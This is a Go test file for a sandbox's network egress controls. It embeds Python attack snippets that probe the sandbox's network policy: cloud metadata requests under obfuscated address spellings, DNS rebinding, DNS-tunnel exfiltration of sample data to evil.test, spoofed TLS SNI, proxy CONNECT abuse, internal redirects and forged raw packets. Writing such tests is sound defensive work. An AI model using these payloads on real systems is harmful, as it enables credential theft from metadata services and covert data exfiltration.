//go:build linux

package egress

import (
	"fmt"
	"strconv"
	"strings"

	"github.com/fumehood-dev/fumehood/internal/egress/egresstest"
	"github.com/fumehood-dev/fumehood/sandbox"
)

// attackCases are those of the corpus on the network (E), for root within the sandbox's network.
func attackCases(hostPort int) []attackCase {
	full := sandbox.NetworkPolicy{Mode: sandbox.NetworkFull}
	everything := sandbox.NetworkPolicy{Mode: sandbox.NetworkRestricted, Allow: []string{"0.0.0.0/0", "::/0"}}
	r := strings.NewReplacer("HOSTPORT", strconv.Itoa(hostPort), "HOST6", egresstest.HostAddress6, "HOST",
		egresstest.HostAddress, "SITE", site, "RESOLVER", egresstest.Resolver)
	above := allow("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "fd00:ec2::254",
		"10.0.0.0/8", "192.168.1.1", "172.17.0.1", egresstest.HostAddress, egresstest.HostAddress6,
		fmt.Sprint("host:", hostPort),
		"11.22.40.7", "11.22.33.255", "metadata.test", "host.test", "lo.test", "here.test", "all.test")
	above.Ceiling = &sandbox.NetworkCeiling{Mode: sandbox.NetworkFull, Allow: []string{sandbox.NetworkPublic}}
	aboveFull := above
	aboveFull.Mode = sandbox.NetworkFull
	aboveFull.Ceiling = &sandbox.NetworkCeiling{Mode: sandbox.NetworkRestricted, Allow: []string{"flush.test"}}
	cases := []attackCase{
		{name: "above the ceiling", policy: above, code: attackMetadata + attackHost + attackRoutes + attackOwn,
			asks: []string{"metadata.test", "host.test", "lo.test", "here.test", "all.test"}},
		{name: "above the ceiling, full", policy: aboveFull,
			code: attackMetadata + attackHost + attackRoutes + attackOwn + attackSNI + attackUDP},
		{name: "metadata", policy: full, code: attackMetadata, asks: []string{"metadata.test", "nat.test", "six.test",
			"metadata.google.internal", "instance-data"},
			passes: []string{"tcp [2606:2800:220:1::1]:80"}},
		{name: "metadata, restricted", policy: allow("metadata.test", "nat.test", "six.test"), code: attackMetadata,
			asks:   []string{"metadata.test", "nat.test", "six.test"},
			passes: []string{"tcp [2606:2800:220:1::1]:80"}},
		{name: "metadata, every prefix allowed", policy: everything, code: attackMetadata, passes: nil},
		{name: "rebinding", policy: allow("rebind.test:80"), code: attackRebinding, passes: []string{webOfSite},
			asks: []string{"rebind.test"}},
		{name: "DNS tunnels", policy: allow("good.test", "*.wild.test"), code: attackTunnels,
			asks: []string{"good.test"}},
		{name: "SNI", policy: allow("good.test", "evil.test:99"), code: attackSNI, passes: []string{tlsOfSite},
			asks: []string{"good.test", "evil.test"}, prints: "good 1\n"},
		{name: "CONNECT", policy: allow("good.test"), code: attackConnect,
			passes: []string{"syn " + site + ":3128", "syn " + site + ":80", "syn " + site + ":8080"},
			asks:   []string{"good.test"}},
		{name: "redirects", policy: allow("good.test"), code: attackRedirects, passes: []string{webOfSite},
			asks: []string{"good.test"}},
		{name: "redirects, full", policy: full, code: attackRedirects,
			passes: []string{webOfSite, "tcp 93.184.216.66:80"},
			asks:   []string{"good.test", "evil.test", "host.test", "lo.test", "metadata.test"}},
		{name: "UDP", policy: allow("good.test:443", "93.184.216.50:99", "93.184.216.51:443"), code: attackUDP,
			passes: []string{"fragment 93.184.216.50", "udp 93.184.216.50:99"}, asks: []string{"good.test"}},
		{name: "ICMP", policy: full, code: attackICMP},
		{name: "raw packets", policy: full, code: attackRaw},
		{name: "IPv6", policy: full, code: attackIPv6, passes: []string{"udp [2606:4700::1]:80"}},
		{name: "the host", policy: everything, code: attackHost},
		{name: "the host, by name", policy: allow("host.test", "lo.test"), code: attackHost,
			asks: []string{"host.test", "lo.test"}},
		{name: "the host, by routes", policy: full, code: attackRoutes, asks: []string{"here.test", "all.test"}},
		{name: "the host, by routes, every prefix allowed", policy: everything, code: attackRoutes},
		{name: "range edges", policy: sandbox.NetworkPolicy{Mode: sandbox.NetworkRestricted,
			Allow: []string{"0.0.0.0/0", "::/0"}, Deny: []string{"93.184.216.0/24", "93.184.217.255"}},
			code: attackEdges, passes: []string{"syn 93.184.218.0:80", "tcp 93.184.215.255:80",
				"tcp 93.184.217.254:80"}},
	}
	for i := range cases {
		cases[i].code = r.Replace(cases[i].code)
	}
	return cases
}

// attackMetadata tries metadata services in every spelling: of addresses, of numbers that some resolver reads as
// addresses, of names.
const attackMetadata = `
for a in ["169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192",
    "::ffff:169.254.169.254", "::ffff:0:169.254.169.254", "::169.254.169.254",
          "64:ff9b::169.254.169.254", "64:ff9b:1::a9fe:a9fe", "2002:a9fe:a9fe::1", "2001::a9fe:a9fe", "fd00:ec2::254",
          "fd20:ce::254", "fe80::a9fe:a9fe"]:
    for port in 80, 443: tcp(a, port, b"GET / HTTP/1.0\r\n\r\n")
    udp(a, 53)
for host in ["2852039166", "0xa9fea9fe", "0xA9.0xFE.0xA9.0xFE", "0251.0376.0251.0376", "0251.254.169.254",
    "169.254.43518", "169.16689662", "0x000000a9fea9fe", "[::ffff:a9fe:a9fe]",
             "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "169.254.169.254.", "\u2460\u2465\u2468.254.169.254",
             "169\u3002254\u3002169\u3002254", "metadata.google.internal", "instance-data",
             "metadata.test", "METADATA.test.", "nat.test", "six.test"]:
    os.system("curl -s -m 5 -g 'http://%s/latest/meta-data/' >/dev/null" % host)
`

// attackRebinding resolves a name until it is something else, and connects to whatever it once was.
const attackRebinding = `
known = {"127.0.0.1", "169.254.169.254", "HOST", "10.0.0.1", "::1"}
for i in range(8): known |= set(look("rebind.test")); [tcp(a, 80) for a in ["SITE"]]
request = b"GET / HTTP/1.1\r\nHost: rebind.test\r\n\r\n"
for a in known:
    for port in 80, HOSTPORT: tcp(a, port, request)
`

// attackTunnels asks for names that carry data, of every type, by every way to a resolver. What is below an allowed
// name may be asked for.
const attackTunnels = `
def query(name, kind=16, flags=0x0100, extra=b""):
    labels = b"".join(bytes([len(l)]) + l for l in name.encode("latin1").split(b".")) + b"\0"
    return struct.pack("!HHHHHH", 7, flags, 1, 0, 0, 1 if extra else 0) + labels + struct.pack("!HH", kind, 1) + extra
def cookie(data):
    return b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(data) + 4) + struct.pack("!HH", 65001, len(data)) + data
data = "c2VjcmV0LWRhdGE"
for to in "198.18.0.1", "fd00:6675:6d65::1":
    for name in [data + ".evil.test", data + ".good.test", "good.test." + data, "good.test\0.evil.test",
        data + ".EVIL.test", "wild.test", "x" * 64 + ".good.test"]:
        try: q = query(name)
        except ValueError: continue
        for kind in 1, 28, 5, 10, 15, 16, 33, 64, 65, 255, 252, 12:
            q = query(name, kind)
            udp(to, 53, q)
            tcp(to, 53, struct.pack("!H", len(q)) + q)
    udp(to, 53, query("good.test", 16, extra=cookie(data.encode())), hear=True)
    udp(to, 53, query("good.test", 1, extra=cookie(data.encode())), hear=True)
    udp(to, 53, query("good.test", 1, flags=0x2900))
    udp(to, 53, query("good.test", 1, flags=0x8100))
    udp(to, 53, b"\xff" * 500)
    for port in 54, 853, 5353, 5355: udp(to, port, query(data + ".evil.test")); tcp(to, port)
for to in "RESOLVER", "8.8.8.8", "1.1.1.1", "2001:4860:4860::8888":
    q = query(data + ".evil.test")
    udp(to, 53, q)
    tcp(to, 53, struct.pack("!H", len(q)) + q)
    tcp(to, 853)
    udp(to, 853)
    tcp(to, 443, b"GET /dns-query?dns=x HTTP/1.1\r\nHost: good.test\r\n\r\n")
`

// attackSNI lies about the name: in TLS, in no TLS at all, and where the address is another's. One connection is as it
// should be.
const attackSNI = `
import ssl
look("good.test"); look("evil.test")
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
def tls(host, server):
    try:
        s = context.wrap_socket(socket.create_connection((host, 443), 5), server_hostname=server)
        s.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (server or "").encode())
        return s.recv(100).count(b" 200 OK")
    except OSError as e: return e
for host, server in [("SITE", "evil.test"), ("SITE", "mate.test"), ("SITE", None), ("SITE", "good.test.evil.test"),
    ("SITE", "SITE"), ("SITE", "xgood.test"), ("SITE", "evil.test."),
                     ("93.184.216.66", "good.test"), ("93.184.216.66", "evil.test"),
                     ("93.184.216.77", "good.test")]: tls(host, server)
def hello(*names):
    listed = b"".join(struct.pack("!BH", 0, len(n)) + n for n in names)
    names = struct.pack("!HHH", 0, len(listed) + 2, len(listed)) + listed
    body = b"\3\3" + bytes(32) + b"\0" + struct.pack("!H", 2) + b"\x13\1" + b"\1\0"
    body += struct.pack("!H", len(names)) + names
    return b"\x16\3\1" + struct.pack("!H", len(body) + 4) + b"\1" + struct.pack("!I", len(body))[1:] + body
for b in [hello(b"good.test", b"evil.test"), hello(b"good.test\0.evil.test"), hello(b"good.test") [:60],
    hello(b"evil.test"), b"\x16\3\1\0\0" + hello(b"good.test"), b"\x80\x2e\1\3\1", b"SSH-2.0-x\r\n",
          b"\x16\3\1\xff\xff" + bytes(1000), b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"]: tcp("SITE", 443, b)
print("good", tls("SITE", "good.test"))
`

// attackConnect asks a server that is allowed to be a proxy.
const attackConnect = `
look("good.test")
for request in [b"CONNECT evil.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n",
    b"CONNECT good.test:25 HTTP/1.1\r\nHost: good.test\r\n\r\n", b"CONNECT good.test:443 HTTP/1.1\r\n\r\n",
                b"connect good.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n",
                b"GET http://evil.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n",
                b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
                b"GET http://good.test@evil.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n",
                b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", b"GET / HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",
                b"GET / HTTP/1.1\r\nHost: good.test\r\nHost: evil.test\r\n\r\n", b"GET / HTTP/0.9\r\n\r\n"]:
    for port in 80, 3128, 8080: tcp("SITE", port, request)
for b in b"\5\1\0", b"\4\1\1\xbb\x5d\xb8\xd8\x42\0", b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n", b"\r\n\r\n\0\r\nQUIT\n":
    tcp("SITE", 80, b)
`

// attackRedirects follows an allowed server to where it must not lead.
const attackRedirects = `
for to in ["http://169.254.169.254/", "http://metadata.test/", "http://127.0.0.1:HOSTPORT/", "http://lo.test:HOSTPORT/",
    "http://HOST:HOSTPORT/", "http://host.test:HOSTPORT/", "http://[::1]:HOSTPORT/", "http://[HOST6]:HOSTPORT/",
           "http://10.0.0.1/", "http://198.18.0.1:HOSTPORT/", "http://[::ffff:127.0.0.1]:HOSTPORT/",
           "http://0.0.0.0:HOSTPORT/", "gopher://127.0.0.1:HOSTPORT/_x", "http://evil.test/"]:
    os.system("curl -s -L -m 5 -g 'http://good.test/?to=%s' >/dev/null" % to)
`

// attackUDP sends datagrams everywhere. Where a name alone is allowed, none passes; nor does QUIC, where names decide.
const attackUDP = `
look("good.test")
for host in ["SITE", "93.184.216.50", "93.184.216.51", "255.255.255.255", "198.18.0.3", "224.0.0.1", "224.0.0.251",
    "239.255.255.250", "10.255.255.255", "169.254.169.254", "127.0.0.1", "HOST", "2606:4700::1", "HOST6"]:
    for port in 53, 80, 123, 443, 1900, 5353, HOSTPORT: udp(host, port)
udp("93.184.216.50", 99, bytes(9000))
# a first fragment that says another port
for i in range(3): frame(ip4("93.184.216.50", 17, datagram(98, bytes(100)), fragment=0x2000 if i == 0 else 13))
syn, other = segment("198.18.0.2", "SITE", 98, 2), segment("198.18.0.2", "SITE", 80, 2)
# a header in two fragments, one of them twice
frame(ip4("SITE", 6, syn[:8], fragment=0x2000))
frame(ip4("SITE", 6, other[:8], fragment=0x2000))
frame(ip4("SITE", 6, syn[8:], fragment=1))
frame(ip4("SITE", 17, datagram(80, b"x")[:6])); frame(ip4("SITE", 17, struct.pack("!HHHH", 1, 80, 9999, 0)))
`

// attackICMP pings, and sends what else ICMP has. The gate answers for itself alone.
const attackICMP = `
def icmp(kind, code=0, data=b"canary" * 10):
    b = struct.pack("!BBHHH", kind, code, 0, 1, 1) + data
    return b[:2] + struct.pack("!H", add(b)) + b[4:]
for to in "SITE", "8.8.8.8", "HOST", "198.18.0.1", "169.254.169.254", "127.0.0.1", "224.0.0.1", "255.255.255.255":
    for kind in 0, 3, 4, 5, 8, 9, 10, 13, 15, 17: frame(ip4(to, 1, icmp(kind)))
for to in "2606:4700::1", "HOST6", "fd00:6675:6d65::1", "ff02::1", "::1":
    for kind in 1, 2, 3, 4, 128, 129, 130, 133, 134, 135, 136, 137, 143: frame(ip6(to, 58, icmp(kind)), 0x86dd)
big = icmp(8, data=bytes(9000))
for at in range(0, len(big), 1400):
    frame(ip4("8.8.8.8", 1, big[at:at + 1400], fragment=at // 8 | (0x2000 if at + 1400 < len(big) else 0)))
`

// attackRaw sends frames and packets that no program could: forged, cut, in other protocols, with options that carry
// them elsewhere.
const attackRaw = `
for protocol in list(range(256)):
    if protocol not in (6, 17):
        frame(ip4("SITE", protocol, b"canary" * 8)); frame(ip6("2606:4700::1", protocol, b"canary" * 8), 0x86dd)
inner = ip4("SITE", 17, datagram(80, b"canary"))
for protocol in 4, 41, 47, 94, 137: frame(ip4("8.8.8.8", protocol, inner))
for source in "HOST", "8.8.8.8", "127.0.0.1", "198.18.0.1", "198.18.0.3", "0.0.0.0", "255.255.255.255":
    frame(ip4("SITE", 6, segment(source, "SITE", 80, 2), source=source))
    frame(ip4("SITE", 17, datagram(80, b"canary"), source=source))
for route in [b"\x83\x07\x04" + socket.inet_aton("SITE") + b"\0", b"\x89\x07\x04" + socket.inet_aton("HOST") + b"\0",
              b"\x94\x04\0\0", b"\x07\x07\x04\0\0\0\0\0"]:
    frame(ip4("198.18.0.1", 17, datagram(80, b"canary"), options=route))
    frame(ip4("SITE", 17, datagram(80, b"canary"), options=route))
# no connection
for flags in 0, 1, 4, 8, 16, 18, 24, 41, 63: frame(ip4("SITE", 6, segment("198.18.0.2", "SITE", 80, flags, b"canary")))
frame(ip4("SITE", 6, segment("198.18.0.2", "SITE", 80, 2)[:19]))
frame(ip4("SITE", 6, b""))
frame(b"")
frame(b"\x45")
frame(bytes(60))
frame(b"\x4f" + bytes(30))
frame(b"\x65" * 60)
for kind in 0x8100, 0x88a8, 0x8847, 0x8863, 0x88cc, 0x0842, 0x8035, 0x9000: frame(b"\0\1\x08\0" + inner, kind)
frame(inner, 0x86dd); frame(ip6("2606:4700::1", 17, datagram(80, b"canary")), 0x0800)
arp = lambda op, target, sender: struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, op, mine, socket.inet_aton(sender),
    bytes(6), socket.inet_aton(target))
for op in 1, 2, 3, 8:
    for target in "198.18.0.1", "198.18.0.2", "HOST", "SITE":
        frame(arp(op, target, "198.18.0.1"), 0x0806, to=b"\xff" * 6)
for n in range(50): wire.send(os.urandom(14 + n * 20))
`

// attackIPv6 tries what IPv6 adds: extension headers, other forms of IPv4, scopes, forged sources. A fragment that is a
// whole datagram may go where a datagram may.
const attackIPv6 = `
for a in ["::1", "::", "::ffff:127.0.0.1", "fe80::1", "fec0::1", "fd00:6675:6d65::2", "fd00::1", "ff02::1", "ff0e::1",
    "2002:7f00:1::", "64:ff9b::7f00:1", "2001:db8::1", "100::1", "HOST6"]:
    tcp(a, HOSTPORT); udp(a, HOSTPORT)
data = datagram(80, b"canary")
for header in 0, 43, 44, 50, 51, 60, 135, 139, 140, 253:
    frame(ip6("2606:4700::1", header, b"\x11\0\0\0\0\0\0\0" + data), 0x86dd)
frame(ip6("2606:4700::1", 43, b"\x11\2\0\1" + bytes(4) + socket.inet_pton(10, "2606:2800:220:1::1") + data), 0x86dd)
for source in "HOST6", "::1", "fd00:6675:6d65::1", "::", "fe80::1":
    frame(ip6("2606:4700::1", 17, data, source=source), 0x86dd)
frame(ip6("2606:4700::1", 4, ip4("SITE", 17, data)), 0x86dd)
`

// attackHost looks for services of the host, where every prefix is allowed, or names that lead there.
const attackHost = `
hosts = ["127.0.0.1", "127.1.2.3", "0.0.0.0", "HOST", "198.18.0.1", "172.17.0.1", "10.0.2.2", "192.168.1.1", "::1",
    "HOST6", "fd00:6675:6d65::1", "::ffff:HOST", "64:ff9b::505:502"]
wire.send(b"\xff" * 6 + mine + b"\x08\0" + ip4("127.0.0.1", 6, segment("198.18.0.2", "127.0.0.1", HOSTPORT, 2)))
frame(ip4("127.0.0.1", 17, datagram(HOSTPORT, b"canary"))); frame(ip4("HOST", 17, datagram(HOSTPORT, b"canary")))
for host in hosts + look("host.test") + look("lo.test"):
    if host in ("127.0.0.1", "127.1.2.3", "0.0.0.0", "::1"): continue # the sandbox's own
    for port in 22, HOSTPORT, 2375, 80: tcp(host, port)
    udp(host, HOSTPORT)
`

// attackRoutes sends to addresses that the host's routing delivers to the host, though no interface has them: prefixes
// that a route makes local, and the broadcast addresses of its networks.
const attackRoutes = `
for host in ["11.22.40.0", "11.22.40.7", "11.22.40.255", "5.5.5.255", "11.22.33.255", "11.22.33.127",
    "2a00:7::9", "64:ff9b::b16:2807", "64:ff9b::505:5ff"] + look("here.test") + look("all.test"):
    tcp(host, HOSTPORT)
    for i in range(3): udp(host, HOSTPORT)
`

// attackOwn connects to the host by the name that only a rule opens.
const attackOwn = `
for host in ["198.18.0.1", "fd00:6675:6d65::1"] + look("host"): tcp(host, HOSTPORT); udp(host, HOSTPORT)
`

// attackEdges connects to both sides of each edge of a denied range.
const attackEdges = `
for a in ["93.184.215.255", "93.184.216.0", "93.184.216.255", "93.184.217.254", "93.184.217.255", "255.255.255.255",
    "240.0.0.1", "0.0.0.0", "0.1.2.3"]:
    if a != "0.0.0.0": tcp(a, 80, b"GET / HTTP/1.0\r\n\r\n", hear=True)
s = socket.create_connection(("93.184.218.0", 80), 5); s.close()
`
